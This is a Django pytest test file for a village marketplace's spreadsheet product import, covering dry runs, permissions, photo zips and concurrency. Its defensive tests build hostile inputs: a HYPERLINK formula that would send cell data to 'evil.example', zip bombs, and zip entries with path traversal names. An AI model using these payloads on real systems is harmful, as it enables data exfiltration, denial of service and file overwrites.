"""Bulk listing from a spreadsheet (shops/imports/): template, dry run, confirmed import, report, photos by zip,
and the attacks: another village's villager, formulas, oversized files, zip bombs and paths out of the zip."""

import csv
import io
import zipfile
from collections import Counter
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.errors import NotPermitted, RateLimited, ValidationFailed
from shops.imports import services
from shops.imports.columns import COLUMN_KEYS
from shops.imports.models import ImportStatus, ProductImport, ProductImportKey
from shops.models import Category, Product, ProductImage, ProductStatus
from tests.factories import BuyerFactory, FarmerFactory, ProductFactory, ShopFactory, StationFactory
from tests.shops.photo_files import image_bytes

pytestmark = pytest.mark.django_db

HEADER = list(COLUMN_KEYS)


def row(**values) -> list[str]:
    base = {"category": "pickles", "unit": "kg", "unit_price": "18.50", "order_step": "0.5", "order_minimum": "1"}
    base.update(values)
    return [str(base.get(key, "")) for key in HEADER]


def csv_upload(rows, *, header=HEADER, name="sheet.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode("utf-8"), content_type="text/csv")


def xlsx_upload(rows, *, header=HEADER, name="sheet.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for values in rows:
        sheet.append(values)
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue())


@pytest.fixture
def village_shops(station):
    """Two villagers of the operator's village with a shop each, and one of another village."""
    li = ShopFactory(owner=FarmerFactory(username="lifang", home_village=station.village), slug="li-shop")
    wang = ShopFactory(owner=FarmerFactory(username="wangwei", home_village=station.village), slug="wang-shop")
    other_station = StationFactory()
    stranger = ShopFactory(owner=FarmerFactory(username="stranger", home_village=other_station.village))
    return {"li": li, "wang": wang, "stranger": stranger}


def check_and_run(actor, upload, django_capture_on_commit_callbacks) -> ProductImport:
    checked = services.product_import_check(actor=actor, upload=upload)
    with django_capture_on_commit_callbacks(execute=True):
        services.product_import_confirm(actor=actor, product_import=checked)
    checked.refresh_from_db()
    return checked


# --- the dry run


def test_dry_run_says_per_row_what_would_happen_and_writes_nothing(operator, village_shops):
    existing = ProductFactory(shop=village_shops["li"], name="Sour soup", unit_price=Decimal("9.90"))
    ProductImportKey.objects.create(shop=village_shops["li"], key="A-002", product=existing)
    same = ProductFactory(
        shop=village_shops["wang"],
        name="Rice",
        category=Category.objects.get(slug="pickles"),
        unit_price=Decimal("18.50"),
        order_step=Decimal("0.5"),
        order_minimum=Decimal("1"),
    )
    ProductImportKey.objects.create(shop=village_shops["wang"], key="B-001", product=same)
    upload = csv_upload(
        [
            row(key="A-001", villager="lifang", name="Pickled cabbage"),
            row(key="A-002", villager="lifang", name="Sour soup", unit_price="12"),
            row(key="B-001", villager="wangwei", name="Rice"),
            row(key="X-1", villager="nobody", name="Ghost"),
            row(key="X-2", villager="stranger", name="Another village's"),
            row(key="X-3", villager="lifang", name="Bad unit", unit="tonne"),
            row(key="X-4", villager="lifang", name="Too dear", unit_price="99999"),
            row(key="X-5", villager="lifang", name="Off step", order_step="0.5", order_minimum="1.2"),
            row(key="A-001", villager="lifang", name="Twice"),
        ]
    )
    products_before = Product.objects.count()
    checked = services.product_import_check(actor=operator, upload=upload)
    actions = {r["key"]: (r["action"], " ".join(r["errors"])) for r in checked.rows if r["key"] != "A-001"}
    first, twice = [r for r in checked.rows if r["key"] == "A-001"]
    assert first["action"] == "create"
    assert twice["action"] == "error" and "line 2" in twice["errors"][0]
    assert actions["A-002"][0] == "update"
    assert actions["B-001"][0] == "unchanged"
    assert actions["X-1"][0] == "error" and "nobody" in actions["X-1"][1]
    assert actions["X-2"][0] == "error" and "stranger" in actions["X-2"][1]
    assert actions["X-3"][0] == "error" and "unit" in actions["X-3"][1].lower()
    assert actions["X-4"][0] == "error" and "between" in actions["X-4"][1]
    assert actions["X-5"][0] == "error" and "multiple of the order step" in actions["X-5"][1]
    assert checked.status == ImportStatus.CHECKED
    assert checked.counts == {"create": 1, "update": 1, "unchanged": 1, "error": 6}
    assert Product.objects.count() == products_before
    existing.refresh_from_db()
    assert existing.unit_price == Decimal("9.90")


def test_dry_run_runs_a_constant_number_of_queries(operator, village_shops, django_assert_max_num_queries):
    small = csv_upload([row(key=f"K{i}", villager="lifang", name=f"P{i}") for i in range(5)])
    large = csv_upload([row(key=f"K{i}", villager="wangwei", name=f"P{i}") for i in range(200)])
    with django_assert_max_num_queries(12) as small_queries:
        services.product_import_check(actor=operator, upload=small)
    with django_assert_max_num_queries(len(small_queries.captured_queries)):
        services.product_import_check(actor=operator, upload=large)


def test_headers_in_any_language_are_read(operator, village_shops):
    from django.utils import translation

    from shops.imports.columns import COLUMNS

    with translation.override("zh-hans"):
        header = [str(column.label) for column in COLUMNS]
    assert header[4] != "name"  # really translated
    checked = services.product_import_check(
        actor=operator,
        upload=xlsx_upload([row(villager="lifang", name="香菇", unit="斤", unit_price="30")], header=header),
    )
    assert [r["action"] for r in checked.rows] == ["create"], checked.rows


def test_the_templates_hint_row_sent_back_is_no_product(operator, village_shops):
    """A villager fills the template downloaded in Chinese, leaving the grey hint row: it is skipped, not an error."""
    from django.utils import translation

    from shops.imports.columns import COLUMNS

    with translation.override("zh-hans"):
        header = [str(column.label) for column in COLUMNS]
        hints = [str(column.help) for column in COLUMNS]
    upload = xlsx_upload([hints, row(villager="lifang", name="香菇", unit="斤", unit_price="30")], header=header)
    checked = services.product_import_check(actor=operator, upload=upload)
    assert [r["action"] for r in checked.rows] == ["create"], checked.rows
    with pytest.raises(ValidationFailed, match="no rows"):  # the template as downloaded: nothing to import
        services.product_import_check(actor=operator, upload=xlsx_upload([hints], header=header))


# --- the import


def test_confirmed_import_creates_then_the_same_file_changes_nothing(
    operator, village_shops, django_capture_on_commit_callbacks
):
    rows = [
        row(key="A-001", villager="lifang", name="Pickled cabbage", stock="40", publish="yes"),
        row(key="B-001", villager="wangwei", name="Sour soup", unit="portion", unit_price="9.9", order_step="1"),
        row(key="X", villager="stranger", name="Not mine"),
    ]
    done = check_and_run(operator, csv_upload(rows), django_capture_on_commit_callbacks)
    assert done.status == ImportStatus.DONE and done.rows_done == 3 and done.percent == 100
    assert done.counts == {"create": 2, "error": 1}
    cabbage = Product.objects.get(shop=village_shops["li"], name="Pickled cabbage")
    assert (
        cabbage.status == ProductStatus.PUBLISHED and cabbage.stock == Decimal("40") and cabbage.listed_by == operator
    )
    assert Product.objects.get(name="Sour soup").status == ProductStatus.DRAFT
    assert not Product.objects.filter(name="Not mine").exists()

    again = check_and_run(operator, csv_upload(rows), django_capture_on_commit_callbacks)
    assert again.counts == {"unchanged": 2, "error": 1}
    assert Product.objects.filter(name__in=["Pickled cabbage", "Sour soup"]).count() == 2

    rows[0] = row(key="A-001", villager="lifang", name="Pickled cabbage", unit_price="20", stock="999")
    third = check_and_run(operator, csv_upload(rows), django_capture_on_commit_callbacks)
    assert third.counts == {"update": 1, "unchanged": 1, "error": 1}
    cabbage.refresh_from_db()
    assert cabbage.unit_price == Decimal("20.00")
    assert cabbage.stock == Decimal("40")  # stock moves only by adjustments, never by a sheet


def test_a_row_that_became_invalid_since_the_dry_run_is_refused_alone(
    operator, village_shops, django_capture_on_commit_callbacks
):
    checked = services.product_import_check(
        actor=operator,
        upload=csv_upload([row(key="A", villager="lifang", name="One"), row(key="B", villager="wangwei", name="Two")]),
    )
    village_shops["wang"].status = "closed"
    village_shops["wang"].save()
    with django_capture_on_commit_callbacks(execute=True):
        services.product_import_confirm(actor=operator, product_import=checked)
    checked.refresh_from_db()
    assert checked.counts == {"create": 1, "error": 1}
    assert Product.objects.filter(name="One").exists() and not Product.objects.filter(name="Two").exists()


def test_confirm_twice_imports_once_and_only_by_its_author(operator, village_shops, django_capture_on_commit_callbacks):
    checked = services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="Once")]))
    with pytest.raises(NotPermitted):
        services.product_import_confirm(actor=village_shops["li"].owner, product_import=checked)
    with django_capture_on_commit_callbacks(execute=True):
        services.product_import_confirm(actor=operator, product_import=checked)
        services.product_import_confirm(actor=operator, product_import=checked)
    assert services.product_import_run(import_id=checked.pk).status == ImportStatus.DONE
    assert Product.objects.filter(name="Once").count() == 1


def test_farmer_imports_for_their_own_shop_only(village_shops, django_capture_on_commit_callbacks):
    li = village_shops["li"].owner
    rows = [row(name="Mine"), row(villager="wangwei", name="Neighbour's")]
    done = check_and_run(li, csv_upload(rows), django_capture_on_commit_callbacks)
    assert [r["outcome"] for r in done.rows] == ["create", "error"]
    assert Product.objects.get(name="Mine").shop == village_shops["li"]


def test_buyers_cannot_import(db):
    with pytest.raises(NotPermitted):
        services.product_import_check(actor=BuyerFactory(), upload=csv_upload([row(name="x")]))


# --- attacks on the file


def test_formula_cells_are_refused_and_exports_neutralise_text(operator, village_shops, client):
    upload = xlsx_upload(
        [
            [*row(villager="lifang", name="ok")[:7], "=1+1", *row()[8:]],
            row(key="B", villager="lifang", name='=HYPERLINK("http://evil.example/?x="&A1,"x")'),
        ]
    )
    refused = services.product_import_check(actor=operator, upload=upload)
    assert [r["action"] for r in refused.rows] == ["error", "error"]
    assert "formula" in refused.rows[0]["errors"][0] and "Unit price" in refused.rows[0]["errors"][0]
    # A CSV has no formulas: the text is taken as typed, and every export neutralises it.
    upload = csv_upload([row(key="B", villager="lifang", name='=HYPERLINK("http://evil.example/?x="&A1,"x")')])
    checked = services.product_import_check(actor=operator, upload=upload)
    assert checked.rows[0]["action"] == "create"
    client.force_login(operator)
    body = b"".join(client.get(reverse("shops:import_report", args=[checked.pk, "csv"])).streaming_content)
    assert "'=HYPERLINK" in body.decode()
    xlsx = b"".join(client.get(reverse("shops:import_report", args=[checked.pk, "xlsx"])).streaming_content)
    values = [cell for line in load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True) for cell in line]
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_oversized_files_too_many_rows_and_zip_bombs_are_refused(operator, village_shops, settings):
    settings.SHOPS_IMPORT_MAX_BYTES = 1000
    with pytest.raises(ValidationFailed, match="larger than"):
        services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x" * 100)] * 20))
    settings.SHOPS_IMPORT_MAX_BYTES = 5 * 1024 * 1024
    settings.SHOPS_IMPORT_MAX_ROWS = 3
    with pytest.raises(ValidationFailed, match="At most 3 rows"):
        services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x")] * 4))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (70 * 1024 * 1024))
    with pytest.raises(ValidationFailed, match="too much data"):
        services.product_import_check(actor=operator, upload=SimpleUploadedFile("bomb.xlsx", bomb.getvalue()))
    for name, data in (("junk.xlsx", b"not a zip"), ("sheet.pdf", b"%PDF"), ("empty.csv", b"")):
        with pytest.raises(ValidationFailed):
            services.product_import_check(actor=operator, upload=SimpleUploadedFile(name, data))


def test_uploads_are_rate_limited(operator, village_shops, settings):
    settings.SHOPS_IMPORTS_PER_HOUR = 2
    for _ in range(2):
        services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x")]))
    with pytest.raises(RateLimited):
        services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x")]))


# --- photos by zip


def photo_zip(entries: dict) -> SimpleUploadedFile:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return SimpleUploadedFile("photos.zip", out.getvalue())


def test_photos_by_zip_are_matched_to_rows_and_paths_out_of_the_zip_refused(
    operator, village_shops, django_capture_on_commit_callbacks
):
    rows = [
        row(key="A-001", villager="lifang", name="Cabbage", photos="cabbage.jpg; cabbage-2.png"),
        row(key="B-001", villager="wangwei", name="Soup", photos="soup.jpg"),
    ]
    done = check_and_run(operator, csv_upload(rows), django_capture_on_commit_callbacks)
    jpeg, png = image_bytes("JPEG"), image_bytes("PNG")
    archive = {
        "photos/cabbage.jpg": jpeg,
        "cabbage-2.png": png,
        "../soup.jpg": jpeg,
        "/etc/soup.jpg": jpeg,
        "unrelated.jpg": jpeg,
        "soup.jpg": b"not an image",
    }
    with django_capture_on_commit_callbacks(execute=True):
        result = services.product_import_photos_attach(actor=operator, product_import=done, upload=photo_zip(archive))
    assert result["added"] == 2
    assert len([e for e in result["errors"] if "outside" in e]) == 2
    assert any(e.startswith("soup.jpg") for e in result["errors"])
    cabbage = Product.objects.get(name="Cabbage")
    assert ProductImage.objects.filter(product=cabbage, status="ready").count() == 2
    assert not ProductImage.objects.filter(product__name="Soup").exists()
    # The same zip again adds nothing twice.
    done.refresh_from_db()
    again = services.product_import_photos_attach(actor=operator, product_import=done, upload=photo_zip(archive))
    assert again["added"] == 0 and cabbage.images.count() == 2


def test_photo_zip_bombs_are_refused(operator, village_shops, django_capture_on_commit_callbacks):
    done = check_and_run(
        operator,
        csv_upload([row(key="A", villager="lifang", name="C", photos="a.jpg")]),
        django_capture_on_commit_callbacks,
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(5):
            archive.writestr(f"big{i}.jpg", b"\0" * (100 * 1024 * 1024))
    with pytest.raises(ValidationFailed, match="too much data"):
        services.product_import_photos_attach(
            actor=operator, product_import=done, upload=SimpleUploadedFile("bomb.zip", out.getvalue())
        )


# --- pages


def test_pages_upload_check_confirm_progress_and_template(client, operator, village_shops):
    client.force_login(operator)
    page = client.get(reverse("shops:import_list"))
    assert page.status_code == 200
    template = client.get(reverse("shops:import_template", args=["xlsx"]))
    workbook = load_workbook(io.BytesIO(template.content))
    villagers = [r[0] for r in workbook.worksheets[3].iter_rows(min_row=2, values_only=True)]
    assert sorted(villagers) == ["lifang", "wangwei"]  # not the other village's
    assert any(r[0] == "pickles" for r in workbook.worksheets[1].iter_rows(values_only=True))
    assert client.get(reverse("shops:import_template", args=["csv"])).status_code == 200
    assert client.get(reverse("shops:import_template", args=["pdf"])).status_code == 404

    response = client.post(reverse("shops:import_list"), {"file": csv_upload([row(villager="lifang", name="Cabbage")])})
    product_import = ProductImport.objects.get(created_by=operator)
    assert response.status_code == 302 and response["Location"] == product_import.get_absolute_url()
    detail = client.get(product_import.get_absolute_url())
    assert b"Cabbage" in detail.content and b"Confirm" in detail.content
    client.post(reverse("shops:import_confirm", args=[product_import.pk]))
    progress = client.get(reverse("shops:import_progress", args=[product_import.pk])).json()
    assert progress["status"] in ("queued", "running", "done")

    bad = client.post(reverse("shops:import_list"), {"file": SimpleUploadedFile("x.txt", b"hello")})
    assert bad.status_code == 200 and b".xlsx or .csv" in bad.content


def test_another_persons_import_is_not_found_and_buyers_are_refused(client, operator, village_shops):
    checked = services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x")]))
    client.force_login(village_shops["li"].owner)
    for name in ("shops:import_detail", "shops:import_progress"):
        assert client.get(reverse(name, args=[checked.pk])).status_code == 404
    assert client.get(reverse("shops:import_report", args=[checked.pk, "csv"])).status_code == 404
    assert client.post(reverse("shops:import_confirm", args=[checked.pk])).status_code == 404
    client.force_login(BuyerFactory())
    assert client.get(reverse("shops:import_list")).status_code in (302, 403)


# --- concurrency (PostgreSQL)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_the_same_file_confirmed_twice_at_once_lists_each_product_once(station):
    """Two imports of one file run at the same moment (the operator pressed twice on two tabs): each row key
    gives one product; the loser's rows are reported, never a second product nor a 500."""
    import threading

    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL")
    from tests.reference_data import ensure_reference_data

    ensure_reference_data()
    operator = station.operator
    ShopFactory(owner=FarmerFactory(username="lifang", home_village=station.village))
    rows = [row(key=f"K{i}", villager="lifang", name=f"Product {i}") for i in range(30)]
    imports = [services.product_import_check(actor=operator, upload=csv_upload(rows)) for _ in range(2)]
    ProductImport.objects.update(status=ImportStatus.QUEUED)
    barrier = threading.Barrier(2)
    errors = []

    def run(pk):
        try:
            barrier.wait()
            services.product_import_run(import_id=pk)
        except Exception as error:  # noqa: BLE001 - the test reports any
            errors.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(item.pk,)) for item in imports]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert Product.objects.filter(name__startswith="Product ").count() == 30
    assert ProductImportKey.objects.count() == 30
    outcomes = Counter(r["outcome"] for item in ProductImport.objects.all() for r in item.rows)
    assert outcomes["create"] == 30 and set(outcomes) <= {"create", "unchanged", "error"}


def test_a_second_delivery_of_the_task_waits_for_the_first(operator, village_shops):
    checked = services.product_import_check(actor=operator, upload=csv_upload([row(villager="lifang", name="x")]))
    ProductImport.objects.filter(pk=checked.pk).update(status=ImportStatus.QUEUED)
    from django.core.cache import cache

    cache.add(f"product-import-run:{checked.pk}", 1)
    with pytest.raises(services.ImportBusy):
        services.product_import_run(import_id=checked.pk)
    cache.delete(f"product-import-run:{checked.pk}")
    assert services.product_import_run(import_id=checked.pk).status == ImportStatus.DONE


@pytest.mark.celery_worker
@pytest.mark.django_db(transaction=True)
def test_a_real_worker_runs_the_confirmed_import(station, celery_worker):
    import time

    from tests.reference_data import ensure_reference_data

    ensure_reference_data()
    ShopFactory(owner=FarmerFactory(username="lifang", home_village=station.village))
    checked = services.product_import_check(
        actor=station.operator, upload=csv_upload([row(key=f"W{i}", villager="lifang", name=f"W{i}") for i in range(5)])
    )
    services.product_import_confirm(actor=station.operator, product_import=checked)  # commits: the task is sent
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        checked.refresh_from_db()
        if checked.status == ImportStatus.DONE:
            break
        time.sleep(0.3)
    assert checked.status == ImportStatus.DONE and checked.counts == {"create": 5}
    assert Product.objects.filter(name__startswith="W").count() == 5
